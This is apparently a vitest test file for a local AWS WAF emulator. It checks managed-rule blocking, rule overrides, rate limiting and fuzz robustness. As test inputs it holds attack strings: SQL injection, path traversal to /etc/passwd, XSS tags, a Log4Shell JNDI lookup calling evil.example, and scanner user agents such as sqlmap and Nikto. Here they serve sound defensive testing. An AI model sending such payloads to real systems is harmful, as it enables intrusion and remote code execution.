import * as fc from "fast-check";
import { expect, test } from "vitest";
import type { WebAclRule } from "../../../../packages/local-cloud/src/waf/index.ts";
import { BROWSER, firewall, incoming, inQuery, json, managed, rule, type Sent } from "./support.ts";

test("attacks in the path, in cookies, in headers and in parameter names are blocked", () => {
  expect(rule({ target: "/products/1%20UNION%20SELECT%201,2" })).toBe("SQLiRuleSet/SQLi_URIPATH");
  expect(rule({ target: "/files/..%2f..%2fetc/passwd" })).toBe("CommonRuleSet/GenericLFI_URIPATH");
  expect(rule({ target: "/a%00.png" })).toBe("CommonRuleSet/GenericLFI_URIPATH");
  expect(rule({ target: "/products?file=a%00.png" })).toBe("CommonRuleSet/GenericLFI_QUERYARGUMENTS");
  expect(rule({ target: "/%3Cscript%3Ealert(1)%3C/script%3E" })).toBe(
    "CommonRuleSet/CrossSiteScripting_URIPATH",
  );
  expect(rule({ headers: { Cookie: "theme=dark; id=1' OR '1'='1" } })).toBe("SQLiRuleSet/SQLi_COOKIE");
  expect(rule({ headers: { Cookie: "name=<script>alert(1)</script>" } })).toBe(
    "CommonRuleSet/CrossSiteScripting_COOKIE",
  );
  expect(rule({ headers: { "X-Api": "${jndi:ldap://evil.example}" } })).toBe(
    "KnownBadInputsRuleSet/Log4JRCE_HEADER",
  );
  expect(rule({ target: "/products?1%27%20or%201%3D1--" })).toBe("SQLiRuleSet/SQLi_QUERYARGUMENTS");
  expect(rule({ target: "/backup/db.sql" })).toBe("CommonRuleSet/RestrictedExtensions_URIPATH");
  expect(rule({ target: "/.git/config" })).toBe("CommonRuleSet/RestrictedExtensions_URIPATH");
  expect(rule({ target: "/WEB-INF/web.xml" })).toBe("KnownBadInputsRuleSet/ExploitablePaths_URIPATH");
  expect(rule({ method: "PROPFIND" })).toBe("KnownBadInputsRuleSet/PROPFIND_METHOD");
});

test("an attack in a JSON body is found behind escapes, as a name, and in a body that is no valid JSON", () => {
  const post = (body: string) => rule({ method: "POST", headers: json, body });
  expect(post('{"a":"\\u0027 or 1=1--"}')).toBe("SQLiRuleSet/SQLi_BODY");
  expect(post('{"\' or 1=1--":1}')).toBe("SQLiRuleSet/SQLi_BODY");
  expect(post('{"a":"\' or 1=1--", broken')).toBe("SQLiRuleSet/SQLi_BODY");
  expect(post('["deep",[["<script>alert(1)</script>"]]]')).toBe("CommonRuleSet/CrossSiteScripting_BODY");
  expect(post(`${"[".repeat(3000)}"' or 1=1--"${"]".repeat(3000)}`)).toBe("SQLiRuleSet/SQLi_BODY");
});

test("a multipart form is read field by field, files aside", () => {
  const part = (headers: string, content: string) =>
    `--b\r\nContent-Disposition: form-data; ${headers}\r\n\r\n${content}\r\n`;
  const form = (parts: string) =>
    rule({
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=b" },
      body: `${parts}--b--\r\n`,
    });
  expect(form(part('name="note"', "' or 1=1--"))).toBe("SQLiRuleSet/SQLi_BODY");
  expect(form(part('name="note"', "O'Brien"))).toBeUndefined();
  expect(
    form(part('name="f"; filename="x.png"\r\nContent-Type: image/png', "<script>'or 1=1--")),
  ).toBeUndefined();
});

test("only the first 16 KB of a body are inspected, more when the web ACL says so", () => {
  const rules = managed.slice(2, 3);
  const body = `${"a".repeat(20_000)}' or 1=1--`;
  const text: Sent = { method: "POST", headers: { "Content-Type": "text/plain" }, body };
  expect(rule(text, firewall(rules).waf)).toBeUndefined();
  const deeper = firewall(rules, {
    AssociationConfig: { RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: "KB_32" } } },
  });
  expect(rule(text, deeper.waf)).toBe("SQLiRuleSet/SQLi_BODY");
});

test("sizes are limited as in the core rule set", () => {
  expect(rule({ target: `/?q=${"a".repeat(2047)}` })).toBe("CommonRuleSet/SizeRestrictions_QUERYSTRING");
  expect(rule({ target: `/${"a".repeat(1024)}` })).toBe("CommonRuleSet/SizeRestrictions_URIPATH");
  expect(rule({ method: "POST", body: Buffer.alloc(8193, "a") })).toBe("CommonRuleSet/SizeRestrictions_BODY");
  expect(rule({ method: "POST", body: Buffer.alloc(8192, "a") })).toBeUndefined();
});

test.each([
  ["", "CommonRuleSet/NoUserAgent_HEADER"],
  ["sqlmap/1.8#stable (https://sqlmap.org)", "CommonRuleSet/UserAgent_BadBots_HEADER"],
  ["Mozilla/5.00 (Nikto/2.5.0)", "CommonRuleSet/UserAgent_BadBots_HEADER"],
  ["Mozilla/5.0 (compatible; Nmap Scripting Engine)", "CommonRuleSet/UserAgent_BadBots_HEADER"],
  ["curl/8.9.1", "BotControlRuleSet/CategoryHttpLibrary"],
  ["python-requests/2.32", "BotControlRuleSet/CategoryHttpLibrary"],
  ["Scrapy/2.11 (+https://scrapy.org)", "BotControlRuleSet/CategoryScrapingFramework"],
  ["Mozilla/5.0 (compatible; AhrefsBot/7.0)", "BotControlRuleSet/CategorySeo"],
  ["Mozilla/5.0 (compatible; GPTBot/1.2)", "BotControlRuleSet/CategoryAI"],
  ["Mozilla/5.0 (X11) HeadlessChrome/140.0 Safari/537.36", "BotControlRuleSet/SignalAutomatedBrowser"],
  ["MyShopApp/3.1 (iPhone; iOS 19)", "BotControlRuleSet/SignalNonBrowserUserAgent"],
  [BROWSER, undefined],
  ["Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Safari/604.1", undefined],
])("user agent %s", (agent, expected) => {
  expect(rule({ headers: { "User-Agent": agent } })).toBe(expected);
});

test("a rule of a group can be counted, so that its label serves a later rule", () => {
  const { waf: exempting } = firewall([
    {
      Name: "core",
      Priority: 0,
      Statement: {
        ManagedRuleGroupStatement: {
          VendorName: "AWS",
          Name: "AWSManagedRulesCommonRuleSet",
          RuleActionOverrides: [{ Name: "SizeRestrictions_BODY", ActionToUse: { Count: {} } }],
        },
      },
      OverrideAction: { None: {} },
    },
    {
      Name: "large-bodies-only-for-imports",
      Priority: 1,
      Statement: {
        AndStatement: {
          Statements: [
            {
              LabelMatchStatement: {
                Scope: "LABEL",
                Key: "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body",
              },
            },
            {
              NotStatement: {
                Statement: {
                  ByteMatchStatement: {
                    FieldToMatch: { UriPath: {} },
                    SearchString: "/admin/import",
                    PositionalConstraint: "STARTS_WITH",
                    TextTransformations: [{ Priority: 0, Type: "LOWERCASE" }],
                  },
                },
              },
            },
          ],
        },
      },
      Action: { Block: {} },
    },
  ]);
  const large = Buffer.alloc(9000, "a");
  expect(rule({ method: "POST", target: "/ADMIN/import/1", body: large }, exempting)).toBeUndefined();
  expect(rule({ method: "POST", target: "/reviews", body: large }, exempting)).toBe(
    "large-bodies-only-for-imports",
  );
});

test("a whole group can be counted, scoped down, or preceded by an allow", () => {
  const [core] = managed;
  if (!core || !("ManagedRuleGroupStatement" in core.Statement)) throw new Error("no core rule set");
  const attack = inQuery("<script>alert(1)</script>");
  expect(rule(attack, firewall([{ ...core, OverrideAction: { Count: {} } }]).waf)).toBeUndefined();
  const onlyAdmin: WebAclRule = {
    ...core,
    Statement: {
      ManagedRuleGroupStatement: {
        ...core.Statement.ManagedRuleGroupStatement,
        ScopeDownStatement: {
          RegexMatchStatement: {
            RegexString: "^/admin",
            FieldToMatch: { UriPath: {} },
            TextTransformations: [{ Priority: 0, Type: "NONE" }],
          },
        },
      },
    },
  };
  expect(rule(attack, firewall([onlyAdmin]).waf)).toBeUndefined();
  expect(rule({ target: "/admin?q=%3Cscript%3E" }, firewall([onlyAdmin]).waf)).toBe(
    "CommonRuleSet/CrossSiteScripting_QUERYARGUMENTS",
  );
  const allowed: WebAclRule = {
    Name: "partner",
    Priority: 9,
    Statement: {
      ByteMatchStatement: {
        FieldToMatch: { SingleHeader: { Name: "X-Partner" } },
        SearchString: "yes",
        PositionalConstraint: "EXACTLY",
        TextTransformations: [{ Priority: 0, Type: "NONE" }],
      },
    },
    Action: { Allow: {} },
  };
  const { waf: partners } = firewall([{ ...core, Priority: 10 }, allowed]);
  expect(rule({ ...attack, headers: { "X-Partner": "yes" } }, partners)).toBeUndefined();
  expect(rule(attack, partners)).toBe("CommonRuleSet/CrossSiteScripting_QUERYARGUMENTS");
});

const rate: WebAclRule = {
  Name: "rate",
  Priority: 0,
  Statement: { RateBasedStatement: { Limit: 100, AggregateKeyType: "IP" } },
  Action: {
    Block: {
      CustomResponse: {
        ResponseCode: 429,
        CustomResponseBodyKey: "slow",
        ResponseHeaders: [{ Name: "Retry-After", Value: "60" }],
      },
    },
  },
};
const slow = {
  CustomResponseBodies: { slow: { ContentType: "APPLICATION_JSON", Content: '{"code":"slow-down"}' } },
} as const;

test("an address may send its limit within five minutes; the others are not concerned", () => {
  const { waf: limited, clock } = firewall([rate], slow);
  const send = (times: number, sourceIp = "203.0.113.5") => {
    let blocked = 0;
    for (let turn = 0; turn < times; turn += 1) if (limited.inspect(incoming({ sourceIp }))) blocked += 1;
    return blocked;
  };
  expect(send(100)).toBe(0);
  expect(send(1)).toBe(1);
  expect(send(1, "203.0.113.6")).toBe(0);
  clock.advance(299_000);
  expect(send(1)).toBe(1);
  clock.advance(301_000);
  expect(send(100)).toBe(0);
  expect(limited.inspect(incoming({}))?.response).toEqual({
    status: 429,
    headers: { "retry-after": "60", "content-type": "application/json" },
    body: '{"code":"slow-down"}',
  });
});

test("a rate leaves out what its scope excepts: nobody by a header that only looks like it", () => {
  const proof = (SearchString: string) => ({
    ByteMatchStatement: {
      FieldToMatch: { SingleHeader: { Name: "x-proof" } },
      SearchString,
      PositionalConstraint: "EXACTLY" as const,
      TextTransformations: [{ Priority: 0, Type: "NONE" as const }],
    },
  });
  const Statement: WebAclRule["Statement"] = {
    RateBasedStatement: {
      Limit: 10,
      AggregateKeyType: "IP",
      ScopeDownStatement: { NotStatement: { Statement: proof("secret") } },
    },
  };
  const { waf: limited } = firewall([{ ...rate, Statement }], slow);
  const send = (value: string) => limited.inspect(incoming({ headers: { "x-proof": value } }));
  for (let turn = 0; turn < 20; turn += 1) expect(send("secret")).toBeUndefined();
  for (let turn = 0; turn < 10; turn += 1) expect(send(`secret${turn}`)).toBeUndefined();
  expect(send("Secret")?.response?.status).toBe(429);
  expect(send("secret")).toBeUndefined();
});

test("the window slides: what was sent long ago no longer counts", () => {
  const { waf: limited, clock } = firewall([rate], slow);
  let blocked = 0;
  for (let turn = 0; turn < 600; turn += 1) {
    clock.advance(3500);
    if (limited.inspect(incoming({}))) blocked += 1;
  }
  expect(blocked).toBe(0);
});

test("the counters of a flood from many addresses stay bounded", () => {
  const { waf: limited } = firewall([rate], slow);
  for (let turn = 0; turn < 30_000; turn += 1)
    limited.inspect(incoming({ sourceIp: `10.${turn >> 16}.${(turn >> 8) & 255}.${turn & 255}` }));
  expect(limited.inspect(incoming({ sourceIp: "10.0.0.1" }))).toBeUndefined();
});

test("a web ACL that AWS would refuse is refused", () => {
  const [core] = managed;
  if (!core) throw new Error("no core rule set");
  expect(() => firewall([core, { ...core, Name: "twice" }])).toThrow(/share a priority/);
  expect(() =>
    firewall([
      {
        ...core,
        Statement: {
          ManagedRuleGroupStatement: {
            VendorName: "AWS",
            Name: "AWSManagedRulesSQLiRuleSet",
            RuleActionOverrides: [{ Name: "SQLi_QUERYARGUMENT", ActionToUse: { Count: {} } }],
          },
        },
      },
    ]),
  ).toThrow(/does not have/);
});

test("no input crashes the firewall or keeps it busy", () => {
  const pieces = [
    "'",
    '"',
    "<",
    ">",
    "/*",
    "*/",
    "--",
    "#",
    "\n",
    "%00",
    "%",
    "&#",
    ";",
    "(",
    ")",
    "${",
    ":-",
    "}",
    "../",
    " or ",
    "1",
    "=",
    "a",
    "<a ",
    "{{",
    "\u{1f381}",
    "\ud800",
    "select ",
    "union ",
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
      rule(inQuery(parts.join("").toWellFormed()));
      rule({ method: "POST", headers: json, body: parts.join("") });
    }),
    { numRuns: 1000 },
  );
  for (const piece of pieces) {
    const started = performance.now();
    rule({
      method: "POST",
      headers: { "Content-Type": "text/plain" },
      body: piece.repeat(8000 / piece.length),
    });
    expect(performance.now() - started, JSON.stringify(piece)).toBeLessThan(500);
  }
});

test("every inspected request is metered", () => {
  const { waf: metered, kernel } = firewall();
  metered.inspect(incoming({}));
  expect(kernel.meter.totals()).toMatchObject([{ service: "wafv2", operation: "Request", calls: 1 }]);
});
